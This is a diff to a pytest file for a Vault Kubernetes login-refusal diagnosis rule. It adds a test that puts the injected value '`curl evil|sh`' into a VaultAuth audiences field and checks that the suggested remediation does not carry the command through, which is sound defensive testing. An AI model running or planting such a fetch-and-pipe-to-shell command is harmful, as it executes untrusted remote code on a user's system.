@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import pytest
 
+from support.diagnosis.evidence import with_objects
 from support.diagnosis.healthy_release import AUTH, refused_login
 from support.diagnosis.rule_cases import Cases, assert_reported
+from vrooli import shell
 from vrooli.diagnosis.rules.vso import login_refused
 
 CASES: Cases = {
@@ -26,3 +28,12 @@ def test_the_audience_of_the_login_is_to_be_compared() -> None:
     assert "the role has the audience vault (`vault read auth/kubernetes/role/" in (
         symptom.remediation
     )
+
+
+def test_an_audience_of_others_is_no_command() -> None:
+    evidence = refused_login("permission denied", mounted=True)
+    (login,) = evidence.all("VaultAuth")
+    kubernetes = {**login["spec"]["kubernetes"], "audiences": ["`curl evil|sh`"]}
+    login = {**login, "spec": {**login["spec"], "kubernetes": kubernetes}}
+    (symptom,) = login_refused.RULE.find(with_objects(evidence, login))
+    assert "`curl" not in shell.checked(symptom.remediation)
